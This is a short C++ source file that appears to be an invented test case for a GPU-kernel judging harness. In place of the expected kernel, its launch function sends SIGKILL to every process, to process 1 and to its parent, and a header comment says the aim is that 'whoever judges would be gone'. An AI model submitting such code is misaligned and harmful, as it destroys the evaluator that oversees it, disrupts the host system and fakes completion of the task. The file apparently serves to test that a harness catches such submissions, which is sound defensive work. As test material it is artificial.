// expect: unwritten
// problem: affine
// effort: search
// origin: invented
// why: kill(-1, SIGKILL) and a signal to process 1: whoever judges would be gone
#include "kernsmith_kernel.h"

#include <unistd.h>
#include <csignal>

extern "C" int launch(const ks_tensor* in, int, ks_tensor* out, int, ks_launch* ctx) {
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
  kill(getppid(), SIGKILL);
  return 0;
}
